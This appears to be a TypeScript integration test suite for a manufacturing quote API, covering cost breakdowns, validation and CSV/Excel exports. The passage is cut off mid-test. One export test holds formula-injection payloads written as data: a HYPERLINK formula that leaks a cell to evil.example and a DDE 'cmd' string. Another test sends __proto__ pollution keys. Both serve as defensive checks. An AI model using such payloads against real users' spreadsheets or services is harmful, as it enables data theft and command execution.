/**
 * Quotation over HTTP against the real Postgres: the quote job, layered defaults, the breakdown
 * (the worked example of docs/quote.md), machine quote configuration, MHR records, settings and
 * the CSV and Excel exports.
 */
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, it } from "node:test";
import ExcelJS from "exceljs";
import { SCOPES } from "../../auth/scopes.ts";
import { startTestApi, type TestApi } from "../support/api.ts";
import { parseCsv } from "../support/csv.ts";
import { createTestDatabase, type TestDatabase } from "../support/database.ts";
import { insertOwnMachine } from "../support/machines.ts";
import { createQuoteProject, savePlannedJob as saveJob } from "../support/quote-projects.ts";
import { createTestUser, type TestUser } from "../support/users.ts";

interface ErrorBody {
  detail: { code: string; message: string; details: { fields?: { field: string; code: string }[] } };
}
interface QuoteJob {
  quantity: number;
  mhr_override: number | null;
  overhead_percentage: number;
  tax: number;
  discount: number;
  profit: number;
  material_surcharge_percentage: number;
  material_is_fixed_price: boolean;
  material_fixed_price: number;
  setup_costs: Record<string, unknown>;
  additional_costs: Record<string, unknown>;
}
interface Breakdown {
  mhr: number;
  mhr_source: string;
  machining_time_s: number;
  setups: { setup_id: string; machining_cost: number; setup_cost: { name: string; source: string; amount: number } }[];
  lines: { kind: string; label: string; quantity: number; unit: string; rate: number; amount: number }[];
  cost_model: Record<string, number> & { sources: Record<string, string> };
  direct_cost: number;
  overhead: number;
  manufacturing_cost: number;
  profit: number;
  discount: number;
  net_price: number;
  tax: number;
  total_price: number;
  unit_price: number;
  warnings: { code: string }[];
}
interface MachineQuote {
  name: string;
  mhr_value: number | null;
  mhr_value_source: string | null;
  effective_mhr: { value: number; source: string };
  setup_costs: { index: number; name: string; value: number; unit: string }[];
  mhr: { calculated_mhr: number } | null;
  cost_model: Record<string, unknown>;
}

let db: TestDatabase;
let api: TestApi;
let alice: TestUser;
let bob: TestUser;
const MACHINE = "vmc-850-fanuc";
const SETUP_1 = randomUUID();
const SETUP_2 = randomUUID();

/** docs/quote.md, worked example of the MHR */
const MHR_INPUTS = {
  acquisition_costs: 250_000,
  machine_selling_price: 280_000,
  interest_rate: 0.06,
  required_floor_space: 20,
  cost_per_square_meter: 12,
  maintenance_cost: 5_000,
  energy_cost: 0.25,
  average_power_consumption: 15,
  operating_hours: 3_000,
  years: 10,
  safety_factor: 1.1,
};

before(async () => {
  db = await createTestDatabase();
  api = await startTestApi(db);
  alice = await createTestUser(db.owner, "alice");
  bob = await createTestUser(db.owner, "bob");
  // the material of the worked example, for alice only
  await db.owner.query(
    "insert into app_public.materials (id, name, category, density_kg_m3, price_per_kg, is_public) values ('quote-alu', 'Alu for quotes', 'aluminium', 2700, 5.8, false)",
  );
  await db.owner.query("insert into app_public.user_materials (user_id, material_id) values ($1, 'quote-alu')", [
    alice.id,
  ]);
});
after(async () => {
  await api.close();
  await db.drop();
});

const createProject = (user: TestUser, body: Record<string, unknown> = {}) =>
  createQuoteProject(api, user, { product_id: MACHINE, ...body });

/** A saved CAM job with stock 100 x 50 x 20 mm and a plan of two setups (900 s and 540 s), as planning saves it. */
async function savePlannedJob(user: TestUser, projectId: string): Promise<void> {
  // the operations of the worked example's tool wear: an end mill and a drill in setup 1, a bull nose in setup 2
  const op = (n: number, tool_number: number, seconds: number) => ({
    id: `op${n}`,
    kind: "pocket",
    name: `Op ${n}`,
    tool_number,
    features: [],
    machining_time_s: seconds,
  });
  const tool = (number: number, tool_type: string) => ({ number, tool_type, name: tool_type, diameter_mm: 6 });
  const setup = (id: string, index: number, seconds: number) => ({
    id,
    name: `Setup ${index + 1}`,
    index,
    direction: [0, 0, index === 0 ? 1 : -1],
    wcs: { origin: [0, 0, 0], x_axis: [1, 0, 0], z_axis: [0, 0, 1] },
    work_offset: `G5${4 + index}`,
    machining_time_s: seconds,
    operations: index === 0 ? [op(1, 1, 600), op(2, 2, 300)] : [op(3, 3, 540)],
    tools: index === 0 ? [tool(1, "CentreCuttingEndMill"), tool(2, "Drill")] : [tool(3, "BullNoseEndMill")],
    verification: {},
  });
  const summary = {
    machining_time_s: 1440,
    warnings: [],
    unmachined: [],
    setups: [setup(SETUP_2, 1, 540), setup(SETUP_1, 0, 900)],
  };
  const stock = {
    type: "bounding_box",
    offsets: { minus_x: 2, plus_x: 2, minus_y: 2, plus_y: 2, minus_z: 0, plus_z: 5 },
    min: [-2, -2, 0],
    max: [98, 48, 20],
    size: [100, 50, 20],
  };
  await saveJob(db.owner, user, projectId, { bboxMax: [96, 46, 15], volumeMm3: 50000, stock, summary });
}

describe("quote settings and new quote jobs", () => {
  it("gives a new project's quote job the overhead, tax, discount, profit and surcharge of the user's settings at its creation", async () => {
    const patched = await api.request("PATCH", "/quote/settings", {
      key: bob.key,
      body: { overhead_percentage: 22, tax: 7, discount: 3, profit: 12.5, material_surcharge_percentage: 8 },
    });
    assert.equal(patched.status, 200, patched.text);
    const project = await createProject(bob);
    const job = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: bob.key });
    assert.equal(job.status, 200);
    assert.deepEqual(
      [
        job.body.overhead_percentage,
        job.body.tax,
        job.body.discount,
        job.body.profit,
        job.body.material_surcharge_percentage,
        job.body.quantity,
        job.body.mhr_override,
      ],
      [22, 7, 3, 12.5, 8, 1, null],
    );
    await api.request("PATCH", "/quote/settings", { key: bob.key, body: { tax: 19 } });
    const unchanged = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: bob.key });
    assert.equal(unchanged.body.tax, 7, "settings apply at creation only");
    const settings = await api.request<Record<string, unknown>>("GET", "/quote/settings", { key: bob.key });
    assert.equal(settings.body.tax, 19);
    assert.equal(settings.body.overhead_percentage, 22, "PATCH changes only the fields sent");
  });

  it("refuses settings outside 0-100 %, negative amounts, strings and unknown fields with 400", async () => {
    for (const body of [
      { tax: 101 },
      { discount: -1 },
      { cost_model: { setup_time_h: -0.5 } },
      { cost_model: { programming_rate: "sixty" } },
      { cost_model: { tool_wear: { end_mill: null, drill: -1 } } },
      { default_energy_cost: -0.1 },
      { profit: "10" },
      { colour: "red" },
      {},
    ]) {
      const res = await api.request<ErrorBody>("PATCH", "/quote/settings", { key: bob.key, body });
      assert.equal(res.status, 400, JSON.stringify(body));
      assert.equal(res.body.detail.code, "invalid_parameter");
    }
  });
});

describe("the quote job", () => {
  it("changes only the fields sent, merges setup costs by setup and clears mhr_override with null", async () => {
    const project = await createProject(alice);
    await savePlannedJob(alice, project);
    const first = await api.request<QuoteJob>("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: {
        quantity: 5,
        mhr_override: 80,
        setup_costs: {
          [SETUP_1]: { is_fixed_price: "true", name: "Vice", value: "0", unit: "EUR", fix_price: "35.50" },
        },
      },
    });
    assert.equal(first.status, 200, first.text);
    const second = await api.request<QuoteJob>("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: {
        mhr_override: null,
        setup_costs: {
          [SETUP_2]: { is_fixed_price: "false", name: "Re-clamp", value: "40", unit: "EUR/h", fix_price: "0" },
        },
      },
    });
    assert.equal(second.status, 200, second.text);
    assert.equal(second.body.quantity, 5);
    assert.equal(second.body.mhr_override, null);
    assert.deepEqual(Object.keys(second.body.setup_costs).sort(), [SETUP_1, SETUP_2].sort());
    const third = await api.request<QuoteJob>("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: { setup_costs: { [SETUP_1]: null } },
    });
    assert.deepEqual(Object.keys(third.body.setup_costs), [SETUP_2]);
  });

  it("refuses bad input with 400 naming the field, and changes nothing", async () => {
    const project = await createProject(alice);
    await savePlannedJob(alice, project);
    const before = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: alice.key });
    const entry = { is_fixed_price: "true", name: "x", value: "0", unit: "EUR", fix_price: "10" };
    const cases: [Record<string, unknown>, string, string][] = [
      [{ quantity: -1 }, "body.quantity", "too_small"],
      [{ quantity: "5" }, "body.quantity", "invalid_type"],
      [{ overhead_percentage: 150 }, "body.overhead_percentage", "too_big"],
      [{ discount: -5 }, "body.discount", "too_small"],
      [{ material_fixed_price: -3 }, "body.material_fixed_price", "too_small"],
      [{ mhr_override: -1 }, "body.mhr_override", "too_small"],
      [{ setup_costs: { [randomUUID()]: entry } }, "", "unknown_reference"],
      [
        { setup_costs: { [SETUP_1]: { ...entry, fix_price: "-10" } } },
        `body.setup_costs.${SETUP_1}.fix_price`,
        "invalid_format",
      ],
      [
        { setup_costs: { [SETUP_1]: { ...entry, fix_price: 10 } } },
        `body.setup_costs.${SETUP_1}.fix_price`,
        "invalid_type",
      ],
      [
        { setup_costs: { [SETUP_1]: { ...entry, is_fixed_price: "false", value: "forty" } } },
        `body.setup_costs.${SETUP_1}.value`,
        "invalid_format",
      ],
      [
        { setup_costs: { [SETUP_1]: { ...entry, is_fixed_price: "yes" } } },
        `body.setup_costs.${SETUP_1}.is_fixed_price`,
        "invalid_value",
      ],
      [
        { setup_costs: { [SETUP_1]: { ...entry, is_fixed_price: true } } },
        `body.setup_costs.${SETUP_1}.is_fixed_price`,
        "invalid_value",
      ],
      [{ cost_model: { operator_rate: -1 } }, "body.cost_model.operator_rate", "too_small"],
      [{ cost_model: { setup_rate: "40" } }, "body.cost_model.setup_rate", "invalid_type"],
      [
        { cost_model: { operator_attendance_percentage: 150 } },
        "body.cost_model.operator_attendance_percentage",
        "too_big",
      ],
      [{ cost_model: { tool_wear: { tap: -0.1 } } }, "body.cost_model.tool_wear.tap", "too_small"],
      [{ cost_model: { tool_wear: { diamond: 1 } } }, "body.cost_model.tool_wear", "unknown_field"],
      [{ cost_model: { wage: 30 } }, "body.cost_model", "unknown_field"],
      [
        { additional_costs: { g: { Title: "x", per_unit: true, Costs: [{ label: "a", cost: -1 }] } } },
        "body.additional_costs.g.Costs.0.cost",
        "too_small",
      ],
      [{ price: 3 }, "body", "unknown_field"],
    ];
    for (const [body, field, code] of cases) {
      const res = await api.request<ErrorBody>("PATCH", `/projects/${project}/quote/job`, { key: alice.key, body });
      assert.equal(res.status, 400, JSON.stringify(body));
      assert.equal(res.body.detail.code, "invalid_parameter");
      const issue = res.body.detail.details.fields![0]!;
      assert.equal(issue.code, code, `${JSON.stringify(body)}: ${JSON.stringify(res.body.detail.details)}`);
      if (field) assert.ok(issue.field.startsWith(field), `${issue.field} for ${JSON.stringify(body)}`);
    }
    const afterwards = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: alice.key });
    assert.deepEqual(afterwards.body, before.body);
  });

  it("refuses a __proto__ key in additional_costs or setup_costs with 400 naming it, and stores nothing", async () => {
    const project = await createProject(alice);
    await savePlannedJob(alice, project);
    const before = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: alice.key });
    const group = '{"Title":"Deburring","per_unit":true,"Costs":[{"label":"x","cost":1}]}';
    const entry = '{"is_fixed_price":"true","name":"x","value":"0","unit":"EUR","fix_price":"1"}';
    const cases: [string, string][] = [
      [`{"quantity":2,"additional_costs":{"__proto__":${group}}}`, "body.additional_costs.__proto__"],
      [`{"additional_costs":{"g":${group},"__proto__":null}}`, "body.additional_costs.__proto__"],
      [
        `{"additional_costs":{"g":{"Title":"x","per_unit":true,"Costs":[{"label":"x","cost":1,"__proto__":{"cost":5}}]}}}`,
        "body.additional_costs.g.Costs.0.__proto__",
      ],
      [`{"setup_costs":{"__proto__":${entry}}}`, "body.setup_costs.__proto__"],
    ];
    for (const [body, field] of cases) {
      const res = await api.request<ErrorBody>("PATCH", `/projects/${project}/quote/job`, {
        key: alice.key,
        raw: { body, contentType: "application/json" },
      });
      assert.equal(res.status, 400, `${body}: ${res.text}`);
      assert.equal(res.body.detail.code, "invalid_parameter");
      assert.deepEqual(
        res.body.detail.details.fields!.map((f) => [f.field, f.code]),
        [[field, "invalid_key"]],
        body,
      );
    }
    const afterwards = await api.request<QuoteJob>("GET", `/projects/${project}/quote/job`, { key: alice.key });
    assert.deepEqual(afterwards.body, before.body);
  });

  it("refuses setup costs for a project whose job has no plan yet", async () => {
    const project = await createProject(alice);
    const res = await api.request<ErrorBody>("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: {
        setup_costs: { [SETUP_1]: { is_fixed_price: "true", name: "x", value: "0", unit: "EUR", fix_price: "1" } },
      },
    });
    assert.equal(res.status, 400);
    assert.deepEqual(
      res.body.detail.details.fields!.map((f) => [f.field, f.code]),
      [[`body.setup_costs.${SETUP_1}`, "unknown_reference"]],
    );
  });

  it("answers 404 for another user's project on every quote route", async () => {
    const project = await createProject(alice);
    for (const [method, path, body] of [
      ["GET", `/projects/${project}/quote`, undefined],
      ["GET", `/projects/${project}/quote/job`, undefined],
      ["PATCH", `/projects/${project}/quote/job`, { quantity: 3 }],
      ["POST", `/projects/${project}/quote/export?format=csv&language=en`, undefined],
    ] as const) {
      const res = await api.request<ErrorBody>(method, path, { key: bob.key, body });
      assert.equal(res.status, 404, `${method} ${path}`);
      assert.equal(res.body.detail.code, "not_found");
    }
  });
});

describe("the breakdown", () => {
  it("is zero for machining with a no_plan warning before the first plan", async () => {
    const project = await createProject(alice);
    const res = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.equal(res.status, 200, res.text);
    assert.equal(res.body.machining_time_s, 0);
    assert.deepEqual(res.body.setups, []);
    assert.deepEqual(
      res.body.warnings.map((w) => w.code),
      ["no_plan", "material_missing", "stock_missing"],
    );
    assert.equal(res.body.total_price, 0);
  });

  it("takes each value from its layer and prices the worked example of docs/quote.md to the cent", async () => {
    const project = await createProject(alice, { material_id: "quote-alu" });
    await savePlannedJob(alice, project);
    // settings layer: no default MHR yet, so the catalogue's
    const catalogue = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.equal(catalogue.body.mhr_source, "catalogue");
    await api.request("PATCH", "/quote/settings", { key: alice.key, body: { default_mhr: 55 } });
    const fromSettings = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.deepEqual([fromSettings.body.mhr, fromSettings.body.mhr_source], [55, "settings"]);
    // machine layer: MHR and the setup-cost template
    await api.request("PATCH", `/libraries/machines/${MACHINE}/quote`, { key: alice.key, body: { mhr_value: 60 } });
    await api.request("POST", `/libraries/machines/${MACHINE}/quote/setup-costs`, {
      key: alice.key,
      body: { name: "Vice setup", value: 45, unit: "EUR" },
    });
    // the cost model, a value or two in each layer (docs/quote.md, worked example)
    const layers: [string, string, Record<string, unknown>][] = [
      ["PATCH", "/quote/settings", { setup_rate: 50, programming_rate: 60, tool_wear: { end_mill: 0.12 } }],
      ["PATCH", `/libraries/machines/${MACHINE}/quote`, { operator_rate: 40, tool_wear: { drill: 0.05 } }],
      ["PATCH", `/projects/${project}/quote/job`, { loading_min: 1.5, deburring_min: 2 }],
    ];
    for (const [method, path, cost_model] of layers) {
      const res = await api.request(method, path, { key: alice.key, body: { cost_model } });
      assert.equal(res.status, 200, `${path}: ${res.text}`);
    }
    // quote job layer: an override, then cleared again
    await api.request("PATCH", `/projects/${project}/quote/job`, { key: alice.key, body: { mhr_override: 99 } });
    const overridden = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.deepEqual([overridden.body.mhr, overridden.body.mhr_source], [99, "quote_job"]);
    const patched = await api.request("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: {
        mhr_override: null,
        quantity: 10,
        overhead_percentage: 15,
        profit: 10,
        discount: 5,
        tax: 19,
        material_surcharge_percentage: 10,
        setup_costs: {
          [SETUP_2]: { is_fixed_price: "false", name: "Re-clamping", value: "40", unit: "EUR/h", fix_price: "0" },
        },
        additional_costs: {
          anodise: { Title: "Anodising", per_unit: true, Costs: [{ label: "Type II", cost: 2.5 }] },
          pack: { Title: "Packaging", per_unit: false, Costs: [{ label: "Box", cost: 12.3 }] },
        },
      },
    });
    assert.equal(patched.status, 200, patched.text);
    const res = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.equal(res.status, 200);
    const b = res.body;
    assert.deepEqual([b.mhr, b.mhr_source, b.machining_time_s], [60, "machine", 1440]);
    assert.deepEqual(
      b.setups.map((s) => [s.setup_id, s.machining_cost, s.setup_cost.name, s.setup_cost.source, s.setup_cost.amount]),
      [
        [SETUP_1, 150, "Vice setup", "machine", 45],
        [SETUP_2, 90, "Re-clamping", "quote_job", 20],
      ],
    );
    assert.deepEqual(
      b.lines.map((l) => [l.kind, l.quantity, l.unit, l.rate, l.amount]),
      [
        ["machining", 2.5, "h", 60, 150],
        ["setup_cost", 1, "order", 45, 45],
        ["machining", 1.5, "h", 60, 90],
        ["setup_cost", 0.5, "h", 40, 20],
        ["loading", 0.5, "h", 40, 20],
        ["operator_attendance", 1, "h", 40, 40],
        ["programming", 0.25, "h", 60, 15],
        ["tool_wear", 190, "min", 0.12, 22.8],
        ["tool_wear", 50, "min", 0.05, 2.5],
        ["deburring", 0.3333, "h", 40, 13.33],
        ["inspection", 0.1667, "h", 40, 6.67],
        ["material", 2.7, "kg", 6.38, 17.23],
        ["additional_cost", 10, "part", 2.5, 25],
        ["additional_cost", 1, "order", 12.3, 12.3],
      ],
    );
    assert.equal(
      b.lines.reduce((cents, l) => cents + Math.round(l.amount * 100), 0),
      Math.round(b.direct_cost * 100),
      "the lines add up to the direct cost to the cent",
    );
    assert.deepEqual(
      [b.cost_model.sources.setup_rate, b.cost_model.sources.operator_rate, b.cost_model.sources.loading_min],
      ["settings", "machine", "quote_job"],
    );
    assert.deepEqual([b.cost_model.sources.inspection_min, b.cost_model.inspection_min], ["default", 1]);
    assert.deepEqual(
      [
        b.direct_cost,
        b.overhead,
        b.manufacturing_cost,
        b.profit,
        b.discount,
        b.net_price,
        b.tax,
        b.total_price,
        b.unit_price,
      ],
      [479.83, 71.97, 551.8, 55.18, 30.35, 576.63, 109.56, 686.19, 57.66],
    );
    assert.deepEqual(b.warnings, []);
    // material at a fixed price replaces stock weight x price x surcharge
    await api.request("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: { material_is_fixed_price: true, material_fixed_price: 3.1 },
    });
    const fixed = await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key });
    assert.equal(fixed.body.lines.find((l) => l.kind === "material")!.amount, 31);
  });

  it("exports the breakdown as CSV and as a German Excel workbook that shows the same totals", async () => {
    const project = await createProject(alice, { material_id: "quote-alu", name: "Halter; groß" });
    await savePlannedJob(alice, project);
    await api.request("PATCH", `/projects/${project}/quote/job`, {
      key: alice.key,
      body: { quantity: 7, discount: 2.5 },
    });
    const json = (await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: alice.key })).body;

    const en = await api.request("POST", `/projects/${project}/quote/export?format=csv&language=en`, {
      key: alice.key,
    });
    assert.equal(en.status, 200, en.text);
    assert.match(en.headers.get("content-type")!, /^text\/csv/);
    assert.equal(en.headers.get("content-disposition"), `attachment; filename="quote_${project}_en.csv"`);
    assert.ok(en.text.includes(`Total price,${json.total_price.toFixed(2)}`), en.text);

    const deCsv = await api.request("POST", `/projects/${project}/quote/export?format=csv&language=de`, {
      key: alice.key,
    });
    assert.ok(deCsv.text.includes(`Gesamtpreis;${json.total_price.toFixed(2).replace(".", ",")}`), deCsv.text);
    assert.ok(deCsv.text.includes('Angebot;"Halter; groß"'), "a field with the separator is quoted");

    const xlsx = await api.request("POST", `/projects/${project}/quote/export?format=excel&language=de`, {
      key: alice.key,
    });
    assert.equal(xlsx.status, 200);
    assert.equal(xlsx.headers.get("content-type"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    assert.equal(xlsx.headers.get("content-disposition"), `attachment; filename="quote_${project}_de.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("Angebot")!;
    const byLabel = new Map<string, { value: unknown; numFmt: string }>();
    sheet.eachRow((row) => {
      const labelCell = row.getCell(1).value;
      if (typeof labelCell === "string")
        byLabel.set(labelCell, { value: row.getCell(2).value, numFmt: row.getCell(2).numFmt });
    });
    assert.equal(byLabel.get("Gesamtpreis")!.value, json.total_price);
    assert.equal(byLabel.get("Herstellkosten")!.value, json.manufacturing_cost);
    assert.equal(byLabel.get("Nettopreis")!.value, json.net_price);
    assert.equal(byLabel.get("Umsatzsteuer")!.value, json.tax);
    assert.equal(byLabel.get("Rabatt")!.value, -json.discount);
    assert.match(byLabel.get("Gesamtpreis")!.numFmt, /€/);
    assert.equal(byLabel.get("Bearbeitung: Setup 1")!.value, json.lines[0]!.amount);
    // the cost model's lines, in German, each with the breakdown's amount
    for (const [label, kind] of [
      ["Be- und Entladen", "loading"],
      ["Maschinenbedienung", "operator_attendance"],
      ["Werkzeugverschleiß: Schaftfräser", "tool_wear"],
      ["Qualitätsprüfung", "inspection"],
    ] as const)
      assert.equal(byLabel.get(label)?.value, json.lines.find((l) => l.kind === kind)!.amount, label);
    assert.equal(byLabel.get("Stückzahl")!.value, 7);
  });

  it("exports no formula: a text cell that begins with = + - @, a tab or a carriage return gets a leading quote; numbers stay numbers", async () => {
    const FORMULA_START = /^[=+\-@\t\r]/;
    // each string the start of a cell: the customer, the project's name (trimmed when stored), the two setup costs' names
    const projects = [
      { customer: '=HYPERLINK("http://evil.example/?x="&A1,"click")', name: "+1+1", setupCosts: ["\t=1+2", "\r=1+2"] },
      { customer: "=cmd|' /C calc'!A0", name: "@SUM(1+1)", setupCosts: ["-2+3", "=1+2"] },
    ];
    const all = projects.flatMap((p) => [p.customer, p.name, ...p.setupCosts]);
    // a user of its own: the exports are many requests for the per-key rate limit
    const carol = await createTestUser(db.owner, "carol");
    for (const { customer, name, setupCosts } of projects) {
      const what = JSON.stringify(customer);
      const project = await createProject(carol, { name, customer });
      await savePlannedJob(carol, project);
      const entry = (costName: string) => ({
        is_fixed_price: "true",
        name: costName,
        value: "0",
        unit: "EUR",
        fix_price: "35.50",
      });
      const patched = await api.request("PATCH", `/projects/${project}/quote/job`, {
        key: carol.key,
        body: {
          discount: 5,
          setup_costs: { [SETUP_1]: entry(setupCosts[0]!), [SETUP_2]: entry(setupCosts[1]!) },
          additional_costs: Object.fromEntries(
            all.map((title, i) => [`g${i}`, { Title: title, per_unit: false, Costs: [{ label: "=1+2", cost: 1.5 }] }]),
          ),
        },
      });
      assert.equal(patched.status, 200, patched.text);
      const json = (await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: carol.key })).body;
      assert.ok(json.discount > 0, "a negative amount in the exports");

      for (const language of ["en", "de"] as const) {
        const sep = language === "en" ? "," : ";";
        const money = (value: number) => (language === "en" ? value.toFixed(2) : value.toFixed(2).replace(".", ","));
        const customerLabel = language === "en" ? "Customer" : "Kunde";
        const csv = await api.request("POST", `/projects/${project}/quote/export?format=csv&language=${language}`, {
          key: carol.key,
        });
        assert.equal(csv.status, 200, csv.text);
        const rows = parseCsv(csv.text, sep);
        for (const cell of rows.flat()) {
          if (/^-?\d+([.,]\d+)?$/.test(cell)) continue;
          assert.doesNotMatch(cell, FORMULA_START, `${what} ${language} CSV: ${JSON.stringify(cell)}`);
        }
        assert.deepEqual(
          rows.find((r) => r[0] === customerLabel),
          [customerLabel, `'${customer}`],
        );
        const titleLabel = language === "en" ? "Quote" : "Angebot";
        assert.deepEqual(
          rows.find((r) => r[0] === titleLabel),
          [titleLabel, `'${name}`],
          `${what} ${language}: the title row`,
        );
        assert.deepEqual(
          rows.filter((r) => r[0] === "Setup 1" || r[0] === "Setup 2").map((r) => r[3]),
          setupCosts.map((n) => `'${n}`),
          `${what} ${language}: the setup costs' names`,
        );
        // the neutralised field is quoted; an amount, even a negative one, is a bare number
        assert.ok(
          csv.text.includes(`${sep}"'${customer.replaceAll('"', '""')}"\r\n`),
          `${what} ${language}: the customer field is quoted`,
        );
        assert.ok(
          csv.text.includes(`${sep}${money(-json.discount)}\r\n`),
          `${what} ${language}: the discount is a bare number`,
        );

        const xlsx = await api.request("POST", `/projects/${project}/quote/export?format=excel&language=${language}`, {
          key: carol.key,
        });
        assert.equal(xlsx.status, 200, xlsx.text);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
        const sheet = workbook.worksheets[0]!;
        const texts: string[] = [];
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${what} ${language} Excel ${cell.address}`);
            if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
          }),
        );
        for (const text of texts)
          assert.doesNotMatch(text, FORMULA_START, `${what} ${language} Excel: ${JSON.stringify(text)}`);
        // XML reads a carriage return back as a line feed
        for (const text of [customer, ...setupCosts])
          assert.ok(
            texts.includes(`'${text.replace("\r", "\n")}`),
            `${what} ${language} Excel: ${JSON.stringify(text)}`,
          );
        const discountRow = sheet
          .getRows(1, sheet.rowCount)!
          .find((r) => r.getCell(1).value === (language === "en" ? "Discount" : "Rabatt"))!;
        assert.equal(discountRow.getCell(2).type, ExcelJS.ValueType.Number);
        assert.equal(discountRow.getCell(2).value, -json.discount);
      }
    }
  });

  it("refuses an unknown format or language with 400", async () => {
    const project = await createProject(alice);
    for (const query of ["?format=pdf&language=en", "?format=csv&language=fr", "", "?format=csv&language=de&extra=1"]) {
      const res = await api.request<ErrorBody>("POST", `/projects/${project}/quote/export${query}`, { key: alice.key });
      assert.equal(res.status, 400, query);
      assert.equal(res.body.detail.code, "invalid_parameter");
    }
  });
});

describe("machine quote configuration and MHR", () => {
  const path = `/libraries/machines/router-450-grbl`;

  it("sets MHR and name, adds and removes setup costs by zero-based index", async () => {
    const start = await api.request<MachineQuote>("GET", `${path}/quote`, { key: alice.key });
    assert.equal(start.status, 200, start.text);
    assert.deepEqual([start.body.mhr_value, start.body.setup_costs, start.body.mhr], [null, [], null]);
    const patched = await api.request<MachineQuote>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { mhr_value: 42.5, name: "Router in hall 2" },
    });
    assert.deepEqual(
      [patched.body.mhr_value, patched.body.mhr_value_source, patched.body.name],
      [42.5, "manual", "Router in hall 2"],
    );
    const nameOnly = await api.request<MachineQuote>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { name: "Router" },
    });
    assert.equal(nameOnly.body.mhr_value, 42.5, "only the sent fields change");
    // the machine's cost model layer: merged by key, null falls through again, bad values 400 naming the field
    const rates = await api.request<MachineQuote>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { cost_model: { operator_rate: 38, setup_time_h: 0.75, tool_wear: { tap: 0.3, drill: 0.04 } } },
    });
    assert.equal(rates.status, 200, rates.text);
    const fellThrough = await api.request<MachineQuote>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { cost_model: { setup_time_h: null, tool_wear: { drill: null } } },
    });
    assert.deepEqual(fellThrough.body.cost_model, { operator_rate: 38, tool_wear: { tap: 0.3 } });
    assert.equal(fellThrough.body.mhr_value, 42.5);
    const bad = await api.request<ErrorBody>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { cost_model: { loading_min: -2 } },
    });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.detail.details.fields![0]!.field, "body.cost_model.loading_min");
    for (const [name, value] of [
      ["A", 10],
      ["B", 20],
      ["C", 30],
    ] as const) {
      const added = await api.request<MachineQuote>("POST", `${path}/quote/setup-costs`, {
        key: alice.key,
        body: { name, value, unit: "EUR" },
      });
      assert.equal(added.status, 201);
    }
    const removed = await api.request<MachineQuote>("DELETE", `${path}/quote/setup-costs/1`, { key: alice.key });
    assert.equal(removed.status, 200);
    assert.deepEqual(
      removed.body.setup_costs.map((c) => [c.index, c.name]),
      [
        [0, "A"],
        [1, "C"],
      ],
    );
    const outOfRange = await api.request<ErrorBody>("DELETE", `${path}/quote/setup-costs/2`, { key: alice.key });
    assert.equal(outOfRange.status, 404);
    assert.equal(outOfRange.body.detail.code, "not_found");
    for (const bad of ["-1", "one", "1.5"]) {
      const res = await api.request<ErrorBody>("DELETE", `${path}/quote/setup-costs/${bad}`, { key: alice.key });
      assert.equal(res.status, 400, bad);
    }
    for (const body of [
      { name: "x", value: -1, unit: "EUR" },
      { name: "x", value: "10", unit: "EUR" },
      { value: 10 },
    ]) {
      const res = await api.request<ErrorBody>("POST", `${path}/quote/setup-costs`, { key: alice.key, body });
      assert.equal(res.status, 400, JSON.stringify(body));
    }
    for (const body of [{ mhr_value: -5 }, { mhr_value: "50" }, {}]) {
      const res = await api.request<ErrorBody>("PATCH", `${path}/quote`, { key: alice.key, body });
      assert.equal(res.status, 400, JSON.stringify(body));
    }
    const cleared = await api.request<MachineQuote>("PATCH", `${path}/quote`, {
      key: alice.key,
      body: { mhr_value: null },
    });
    assert.deepEqual([cleared.body.mhr_value, cleared.body.effective_mhr.source], [null, "settings"]);
  });

  it("previews an MHR without storing it, stores one as the machine's MHR, and removes it", async () => {
    const preview = await api.request<{ calculated_mhr: number }>("POST", "/quote/mhr/calculate", {
      key: alice.key,
      body: MHR_INPUTS,
    });
    assert.equal(preview.status, 200, preview.text);
    assert.equal(preview.body.calculated_mhr, 20.03);
    const none = await api.request<ErrorBody>("GET", `${path}/mhr`, { key: alice.key });
    assert.equal(none.status, 404, "the preview stored nothing");

    const stored = await api.request<{ calculated_mhr: number; inputs: Record<string, number> }>(
      "POST",
      `${path}/mhr`,
      { key: alice.key, body: MHR_INPUTS },
    );
    assert.equal(stored.status, 200, stored.text);
    assert.equal(stored.body.calculated_mhr, 20.03);
    const read = await api.request<{ calculated_mhr: number; inputs: Record<string, number> }>("GET", `${path}/mhr`, {
      key: alice.key,
    });
    assert.deepEqual(read.body.inputs, MHR_INPUTS);
    const config = await api.request<MachineQuote>("GET", `${path}/quote`, { key: alice.key });
    assert.deepEqual(
